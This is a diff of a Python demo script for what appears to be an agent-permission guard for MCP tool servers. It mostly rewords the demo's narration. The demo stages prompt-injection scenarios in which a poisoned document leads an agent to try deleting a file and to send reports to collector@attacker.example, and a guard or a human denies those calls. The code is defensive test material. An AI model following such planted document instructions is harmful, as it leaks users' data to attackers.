@@ -54,7 +54,7 @@ CALLS = 50
 async def tell(folder: Path, *, stay: bool) -> None:
     """Tell all chapters. With `stay`, keep the server running until this coroutine is cancelled."""
     stage = Stage(folder)
-    out.print(f"[bold]Ostiary[/] at work. All of this really happens, in {folder}.")
+    out.print(f"[bold]Ostiary[/] at work, with real servers, agents and keys, in {folder}.")
     async with AsyncExitStack() as stack:
         stack.callback(stage.stop)
         _start(stage)
@@ -91,9 +91,9 @@ async def _register(stage: Stage) -> None:
     definitions = [tool.model_dump(mode="json", by_alias=True, exclude_none=True) for tool in tools]
     listed.write_text(json.dumps({"tools": definitions}))
     lines = run(stage, "resource", "read", "--name", "files", str(listed), "--write", str(catalogue))["lines"]
-    say(f"{len(lines)} lines are proposed, of what the tools do and what their arguments are;")
-    say("the owner corrects two: `write_file` sends nothing, and `read_file` returns")
-    say("untrusted content; and `export_keys` is a decoy")
+    say(f"{len(lines)} lines are proposed: what each tool does, and what its arguments are;")
+    say("the owner corrects two lines: `write_file` sends nothing, and `read_file`")
+    say("returns untrusted content; the owner also marks `export_keys` as a decoy")
     catalogue.write_text(json.dumps(_corrected(json.loads(catalogue.read_text()))))
     made = ("--uri", stage.files_uri, "--catalogue", str(catalogue), "--generate-key", str(stage.folder / "files.json"))
     run(stage, "resource", "create", "files", *made)
@@ -120,19 +120,19 @@ def _guard(stage: Stage) -> None:
     chapter(3, "A real MCP server behind a guard")
     stage.start_tools("files")
     answer = httpx2.post(stage.files_uri, json={}, timeout=60)
-    say(f"{stage.files_uri} answers a stranger: {answer.status_code} {answer.reason_phrase}")
+    say(f"{stage.files_uri} answers a caller without a token: {answer.status_code} {answer.reason_phrase}")
 
 
 async def _read_and_write(stage: Stage, reader: Client, writer: Client) -> None:
-    chapter(4, "Both at work, through MCP clients; every call is decided at the tool server")
+    chapter(4, "Two agents call tools by MCP, and the guard of the tool server decides each call")
     await attempt(stage, "writer", writer, "write_file", path="reports/q3.txt", text="Revenue is up 4 %.")
     await attempt(stage, "reader", reader, "read_file", path="reports/q3.txt")
-    note("Then a document that the reader has read makes it attempt harm.")
+    note("Then a document makes the reader attempt a harmful call.")
     await attempt(stage, "reader", reader, "delete_file", path="reports/q3.txt")
 
 
 async def _work_on_a_task(stage: Stage) -> None:
-    chapter(5, "A task: bounds on the very arguments, and an end")
+    chapter(5, "A task: bounds on arguments, and an end")
     bounds = stage.folder / "bounds.json"
     bounds.write_text(json.dumps([_writing(stage, path={"prefix": "reports/"}, text={"max_length": 200})]))
     options = ("--agent", "writer", "--bounds", str(bounds), "--purpose", "Report for October")
@@ -148,7 +148,7 @@ async def _work_on_a_task(stage: Stage) -> None:
 
 
 async def _hand_on(stage: Stage) -> None:
-    chapter(6, "A third agent hands a part of its task on to a sub-agent")
+    chapter(6, "A third agent delegates a part of its task to a sub-agent")
     async with stage.agent("editor") as editor, stage.client("editor") as apart, AsyncExitStack() as stack:
         blocks = AsyncExitStack()  # never left: the tasks are revoked before their blocks would end them
         whole = await blocks.enter_async_context(
@@ -157,8 +157,8 @@ async def _hand_on(stage: Stage) -> None:
         narrower = {"bounds": [_writing(stage, path={"prefix": "reports/figures/"})], "budget": [_writes(2)]}
         part = await blocks.enter_async_context(whole.delegate("helper", "Its figures", **narrower))
         stage.names |= {whole.id: "for 2026", part.id: "for its figures"}
-        say("the helper gets nothing secret: it acts on its part with its own key, and")
-        say("may write twice; that comes out of the five times of the whole")
+        say("the helper gets no secret: it acts on its part of the task with its own key, and")
+        say("may write twice; both calls count against the five calls of the whole task")
         helper = await stack.enter_async_context(stage.client("helper", task=part.id))
         await attempt(stage, "helper", helper, "write_file", path="reports/figures/q3.txt", text="4 %")
         await attempt(stage, "helper", helper, "write_file", path="reports/summary.txt", text="Not its part.")
@@ -166,9 +166,9 @@ async def _hand_on(stage: Stage) -> None:
         await attempt(stage, "helper", helper, "write_file", path="reports/figures/q2.txt", text="3 %")
         await attempt(stage, "helper", helper, "write_file", path="reports/figures/q1.txt", text="1 %")
         [left] = run(stage, "task", "show", whole.id)["budgets"]
-        say(f"the editor has {left['left']} of {left['limit']['limit']} left for itself")
+        say(f"the editor has {left['left']} of {left['limit']['limit']} calls left")
         draw(stage, "task", "tree", whole.id, wraps=True)
-        note("The task is revoked, and with it the delegated part, and nothing else.")
+        note("The task is revoked. The delegated part ends with it, and nothing else.")
         run(stage, "revoke", "task", whole.id)
         await attempt(stage, "helper", helper, "write_file", path="reports/figures/q4.txt", text="Too late.")
         await attempt(stage, "editor", apart, "write_file", path="notes/editor.txt", text="Other work.")
@@ -187,7 +187,7 @@ def _writes(limit: int) -> dict[str, Any]:
 
 
 async def _ask_a_person(stage: Stage) -> None:
-    chapter(7, "A poisoned document, and a person who is asked about just one call")
+    chapter(7, "A malicious document, and a person who approves exactly one call")
     (stage.sandbox / "partner.txt").write_text(POISONED)
     started = ("--agent", "assistant", "--purpose", "Tell Ben how Q3 was", "--words", WORDS)
     task = run(stage, "task", "start", *started)["task_id"]
@@ -196,14 +196,14 @@ async def _ask_a_person(stage: Stage) -> None:
         send = partial(attempt, stage, "assistant", assistant, "send_message")
         await attempt(stage, "assistant", assistant, "read_file", path="partner.txt")
         await send(to="ben@example.org", text="Q3 was up 4 %.")
-        note("Now it does what the document says.")
+        note("Now the reader does what the document says.")
         await send(to="collector@attacker.example", text="All reports: revenue is up 4 %.")
         _answer(stage, "deny", "not requested")
         await send(to="collector@attacker.example", text="All reports: revenue is up 4 %.")
-        note("An unusual request can be right: the document also names the other recipients.")
+        note("An unusual call can be right: the document also names the other recipients.")
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
         _answer(stage, "approve", "Cleo may know")
-        note("The yes is for just that, once: not for other words, nor for a second time.")
+        note("The approval is for exactly this call, once: not for another text, and not for a second call.")
         await send(to="cleo@partner.example", text="Q3 was a disaster.")
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
@@ -244,7 +244,7 @@ async def _revoke_in_the_middle(stage: Stage, writer: Client) -> None:
 
     while calls < CALLS:
         await write()
-    say(f"{calls} calls of it were allowed, and it goes on")
+    say(f"{calls} calls of the writer were allowed, and the writer continues")
     async with asyncio.TaskGroup() as both:
         working = both.create_task(work())
         done = await asyncio.to_thread(run, stage, "revoke", "agent", "writer")
@@ -252,9 +252,10 @@ async def _revoke_in_the_middle(stage: Stage, writer: Client) -> None:
     for guard in done["guards"]:
         say(f"the guard of `{guard['guard']}` denied [bold]{guard['ms']:.1f} ms[/] after the commit")
     after = (last_allowed - done["committed_at"]) / 1000
-    say(f"the last of {calls} allowed calls was answered {abs(after):.1f} ms {'after' if after > 0 else 'before'} it")
+    side = "after" if after > 0 else "before"
+    say(f"the last of {calls} allowed calls was answered {abs(after):.1f} ms {side} the commit")
     say(f"writer [red]denied[/]: {escape(add_names(stage, refusal.message))}")
-    say(f"nor does it get a new token: {await _why_no_token(stage, 'writer')}")
+    say(f"the writer gets no new token: {await _why_no_token(stage, 'writer')}")
 
 
 async def _why_no_token(stage: Stage, name: str) -> str:
@@ -267,7 +268,7 @@ async def _why_no_token(stage: Stage, name: str) -> str:
 
 
 def _verify(stage: Stage) -> None:
-    chapter(13, "The ledger: every act is in it, the refused ones too")
+    chapter(13, "The ledger: it has every act, also the refused acts")
     export, copy = stage.folder / "export", stage.folder / "falsified"
     run(stage, "audit", "export", str(export))
     report = run(stage, "audit", "verify", str(export))
@@ -283,7 +284,7 @@ def _verify(stage: Stage) -> None:
 
 
 async def _look_around(stage: Stage) -> None:
-    chapter(15, "The server is up: look around, then end it with Ctrl-C")
+    chapter(15, "The server still runs: look around, then end it with Ctrl-C")
     ostiary = "ostiary" if shutil.which("ostiary") else sys.argv[0]
     shows = {"tk_": "task show", "ap_": "approvals show", "in_": "incident show"}
     ids = [next(id for id in stage.names if id.startswith(kind)) for kind in shows]
